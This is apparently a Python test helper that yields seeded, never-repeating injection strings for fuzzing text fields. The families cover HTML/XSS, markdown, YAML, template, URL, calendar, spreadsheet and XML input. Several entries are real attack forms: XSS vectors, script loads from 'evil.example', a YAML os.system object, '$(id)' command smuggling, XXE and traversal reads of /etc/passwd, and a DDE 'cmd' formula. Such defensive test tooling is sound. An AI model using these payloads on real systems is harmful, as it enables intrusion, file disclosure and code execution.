"""Texts that a stranger would put into a field to make it act: a seed gives the same each time.

Each is made of pieces of several families, whole or cut, after or within plain words. They are for
every field of text, whatever it is written into afterwards.
"""

from __future__ import annotations

import random
from collections.abc import Iterator

JS = "window.poisoned=1"
FAMILIES: dict[str, list[str]] = {
    "html": [
        *(f"<script>{JS}</script>", f'"><svg onload={JS}>', f"<img src=x onerror={JS}>"),
        *("<script src=//evil.example/x", f"</script><script>{JS}", f"</title><script>{JS}"),
        *("</textarea><b>", "</style><b>", "</template><b>", "<!--", "--!>", "<![CDATA[", "<?php"),
        *(f"' onmouseover='{JS}", f'" autofocus onfocus="{JS}', f"` onload=`{JS}", "'\"><b x='"),
        *("<base href=//evil.example>", "<meta http-equiv=refresh content=0;url=//evil.example>"),
        *(f'<iframe srcdoc="<script>{JS}">', f"<a href=javascript:{JS}>x", "<b style=color:red>"),
        *(f"<details open ontoggle={JS}>", f"<form action=javascript:{JS}><button>", "<plaintext>"),
        *("&#60;script&#62;", "&lt;img src=x&gt;", "&#x3c", "%3Cscript%3E", "\\x3cscript\\x3e"),
        *("<svg/onload=x", "<x onclick=x", "< script >", "＜script＞", "<\tscript", "<scr\nipt>"),
        *("data-ahead=x", "</a><a href=//evil.example>", "<math><mi//xlink:href='javascript:x'>"),
    ],
    "markdown": [
        *(f"[x](javascript:{JS})", f"<javascript:{JS}>", "[x](data:text/html,<script>)", "[[x]]"),
        *(f'![x](x"onerror="{JS})', f"[x]: javascript:{JS}", "[x](//evil.example 'y\" onclick=z')"),
        *(
            f'[x](https://evil.example/"onclick="{JS})',
            "[x](JaVaScRiPt&colon;x)",
            "[x](vbscript:x)",
        ),
        *("# Heading", "## Heading", "```html\n<b>\n```", "> quote", "| a | b |\n|---|---|", "***"),
        *('<https://evil.example/"onclick=x>', "\\<b\\>", "~~gone~~", "![](//evil.example/pixel)"),
        *("[x](\\javascript:x)", "[x](\x01javascript:x)", "[x](java\nscript:x)", "1. one", "- one"),
    ],
    "yaml": [
        *("!!python/object/apply:os.system [id]", "&a *a", "*a", "{a: b}", "[a", "- x", "k: v"),
        *(" # comment", "#comment", "---", "...", "%YAML 1.1", "? x", "@x", "`x", "null", "~", "|"),
        *(
            "yes",
            "0777",
            "1e3",
            "2026-01-01",
            "12:30",
            ".inf",
            "<<: *a",
            '"',
            "'",
            "''",
            '\\"',
            ">-",
        ),
        *("---\nname: another", "\n---\n", "a: |\n  b", "\ttab", "\\n", "\\"),
    ],
    "templates": [
        *("{{7*7}}", "{{ config }}", "{% raise x %}", "{% include '/etc/passwd' %}", "{#", "#}"),
        *(
            "{{ ''.__class__.__mro__ }}",
            "${7*7}",
            "#{7*7}",
            "<%= 7*7 %>",
            "%(name)s",
            "%s%n",
            "{0}",
        ),
        *("{name}", "{0.__class__}", "$(id)", "`id`", "; id", "{{=<% %>=}}", "{static}/etc/passwd"),
        *("{attach}x", "|filename|x", "\\g<0>", "\\1"),
    ],
    "addresses": [
        *(f"javascript:{JS}", f"JAVASCRIPT:{JS}", f"java\tscript:{JS}", "data:text/html,x"),
        *(
            "file:///etc/passwd",
            "//evil.example",
            "\\\\evil.example\\x",
            "http://a:b@evil.example/",
        ),
        *("mailto:a@b.example?bcc=c@d.example", "tel:1;x=y", "sms:?body=x", "../../etc/passwd"),
        *(
            "?q=<b>",
            '#"><b>',
            "webcal://evil.example",
            "blob:x",
            "vbscript:x",
            "https://evil.example",
        ),
    ],
    "calendars": [
        *("x\r\nBEGIN:VEVENT\r\nSUMMARY:y\r\nEND:VEVENT", "x\nBEGIN:VALARM", "\rATTACH:file:///x"),
        *("END:VCALENDAR", "x\\nDTSTART:20200101", "\\;\\,\\\\", ";VALUE=URI:x", ":::", "X-A=1;B:"),
        *("x\u2028END:VEVENT", "x\x85END:VEVENT", "x\x0bEND:VEVENT", "é" * 40, "😀" * 30),
    ],
    "tables": [
        *(
            "=cmd|'/C calc'!A0",
            "+1+1",
            "-2+3",
            "@SUM(A1)",
            "\t=1",
            "\r=1",
            "＝1+1",
            "＋1",
            "－1",
            "＠x",
        ),
        *('"=1', '",=1,"', "';=1", ";=1", "\n=1", '=HYPERLINK("//evil.example")', "\u00a0=1", "−1"),
    ],
    "data": [
        *("</script>", "\\u003c/script\\u003e", '"}]}', "'];x=1;//", '"+x+"', "*/x/*", "__proto__"),
        *("constructor", "\u2028x=1", "\u2029", "\\", "\\u0022", "<\\/script>", "${x}", "]]>"),
        *("<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>", "&y;", "<?xml version='1.0'?>"),
        *("</title></entry><entry>", "&amp;amp;", "&nbsp", "]]><b>", "location /{}", "}\nserver{"),
    ],
    "signs": [
        *(chr(code) for code in (*range(32), *range(127, 160))),
        *"\u00ad\u061c\u200b\u200d\u200e\u200f\u202a\u202d\u202e\u2060\u2066\u2069\ufeff\ufffe\uffff",
        *(
            "a\u0300" * 60,
            "مرحبا",
            "שלום \u202e",
            "日本語",
            "\U000e0041",
            "ﬃ",
            "İ",
            "ß",
            "\U0001f468",
        ),
    ],
    "long": [
        *(
            "A" * 400,
            "word " * 90,
            "[" * 150,
            "*" * 200,
            "`" * 200,
            "(" * 300,
            "_" * 150,
            "<" * 200,
        ),
        *(
            "a@" * 100,
            "é" * 300,
            "[x](" * 60,
            "> " * 60,
            "&" * 300,
            "\\" * 200,
            "$" * 100,
            "!" * 200,
        ),
    ],
}
_PLAIN = ("Come and join us", "We meet on", "Tea", "Ask for", "It is", "A calm hour")


def payloads(seed: int) -> Iterator[tuple[str, str]]:
    """Family and text, without end. No text comes twice."""
    random_ = random.Random(seed)
    seen = set()
    whole = [(family, piece) for family, pieces in FAMILIES.items() for piece in pieces]
    random_.shuffle(whole)
    yield from whole
    seen.update(piece for _, piece in whole)
    while True:
        family = random_.choice(list(FAMILIES))
        text = random_.choice(FAMILIES[family])
        if random_.random() < 0.5:
            other = random_.choice(FAMILIES[random_.choice(list(FAMILIES))])
            text = random_.choice(["", " ", "\n", "\t", '"', "'"]).join([text, other])
        if random_.random() < 0.2:
            text = text[: random_.randrange(1, len(text) + 1)]
        if random_.random() < 0.2:
            text = text.swapcase()
        if random_.random() < 0.6:
            text = f"{random_.choice(_PLAIN)} {text} {random_.choice(_PLAIN)}"
        if text not in seen:
            seen.add(text)
            yield family, text
